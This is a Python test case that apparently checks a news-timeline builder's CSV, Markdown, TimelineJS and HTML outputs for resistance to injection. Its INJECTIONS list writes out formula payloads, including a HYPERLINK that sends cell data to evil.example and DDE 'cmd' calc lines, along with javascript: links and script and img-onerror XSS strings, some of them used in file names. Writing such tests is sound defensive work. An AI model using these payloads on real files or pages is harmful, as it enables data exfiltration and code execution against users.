"""CSV, Markdown and TimelineJS outputs of reports that carry formula, link and HTML injection."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

from harness import Ctx, case, good_report

#: What a spreadsheet runs as a formula when a cell starts with it (render/csv.py guards these).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: A Markdown link to javascript: whose closing bracket is not escaped (an escaped one, ``\\]``, is plain text).
UNESCAPED_JS_LINK = re.compile(r"(?<!\\)\]\(\s*javascript:", re.I)
INJECTIONS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "cr\r=2+3",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "[x](javascript:alert(1))",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "\t=1+1",
)


def _injected_pile(ctx: Ctx) -> Path:
    pile = ctx.tmp / "pile"
    pile.mkdir()
    for i, attack in enumerate(INJECTIONS):
        body = good_report(1000 + i)
        lines = body.split("\n")
        for j, line in enumerate(lines):  # the attack inside the article text, in a sentence the timeline may cite
            if len(line.split()) >= 20:
                lines[j] = f"{attack} " + line + f" {attack}"
                break
        header = f"Title: {attack.replace(chr(13), ' ')} report {i}\nOutlet: {attack.replace(chr(13), ' ')}\nURL: javascript:alert({i})\n\n"
        (pile / f"r{i}.txt").write_text(header + "\n".join(lines), encoding="utf-8")
    (pile / "cr\r=2+3.txt").write_text(good_report(1100), encoding="utf-8")
    (pile / "=HYPERLINK(1).txt").write_text(good_report(1101), encoding="utf-8")
    return pile


@case()
def case_outputs_resist_injection(ctx: Ctx) -> None:
    """CSV cells never start a formula and rows are whole; Markdown and TimelineJS escape links and HTML."""
    pile = _injected_pile(ctx)
    out = ctx.tmp / "out"
    run = ctx.dateline("build", str(pile), "--out", str(out), "--workers", "1", "-q", timeout=120)
    if not ctx.check(run, "build"):
        return
    timeline = json.loads((out / "timeline.json").read_text(encoding="utf-8"))
    expected_rows = {"entries": sum(len(e.get("sources", [])) for e in timeline.get("entries", []))}
    for kind in ("entries", "quotes", "figures"):
        raw = (out / f"{kind}.csv").read_bytes().decode("utf-8")
        rows = list(csv.reader(io.StringIO(raw, newline="")))
        if not ctx.expect(rows, f"{kind}.csv is empty"):
            continue
        width = len(rows[0])
        ragged = [i for i, row in enumerate(rows) if len(row) != width]
        ctx.expect(not ragged, f"{kind}.csv: rows {ragged[:5]} have a different number of cells than the header ({width})")
        risky = [cell for row in rows[1:] for cell in row if cell.startswith(FORMULA_START)]
        ctx.expect(not risky, f"{kind}.csv: cells start a formula: {risky[:3]}")
        if kind in expected_rows:
            ctx.expect(len(rows) - 1 == expected_rows[kind],
                       f"{kind}.csv has {len(rows) - 1} rows, timeline.json has {expected_rows[kind]} entry sources")
        # A reader that splits on bare CR or LF (as spreadsheets importing lines do) must see whole rows too.
        for line in re.split(r"\r\n|\n|\r", raw):
            ctx.expect(not line.startswith(FORMULA_START), f"{kind}.csv: a physical line starts a formula: {line[:60]!r}")
    markdown = (out / "timeline.md").read_text(encoding="utf-8")
    ctx.expect("<script" not in markdown.lower(), "timeline.md holds a raw <script> tag")
    ctx.expect("<img" not in markdown.lower(), "timeline.md holds a raw <img> tag")
    ctx.expect(not UNESCAPED_JS_LINK.search(markdown), f"timeline.md holds a javascript: link: "
                                                      f"{UNESCAPED_JS_LINK.search(markdown)}")
    ctx.expect("<javascript:" not in markdown.lower(), "timeline.md holds a javascript: autolink")
    tl = json.loads((out / "timeline.timelinejs.json").read_text(encoding="utf-8"))
    texts = []
    for event in tl.get("events", []):
        texts += [event.get("text", {}).get("headline", ""), event.get("text", {}).get("text", "")]
    joined = "\n".join(texts).lower()
    ctx.expect(texts, "timeline.timelinejs.json has no events")
    ctx.expect("<script" not in joined, "TimelineJS text holds a raw <script> tag")
    ctx.expect("<img" not in joined, "TimelineJS text holds a raw <img> tag")
    ctx.expect('href="javascript:' not in joined, "TimelineJS text links to javascript:")
    page = (out / "timeline.html").read_text(encoding="utf-8").lower()
    ctx.expect("<script>alert(1)" not in page and 'onerror="alert(1)"' not in page, "timeline.html holds injected markup")
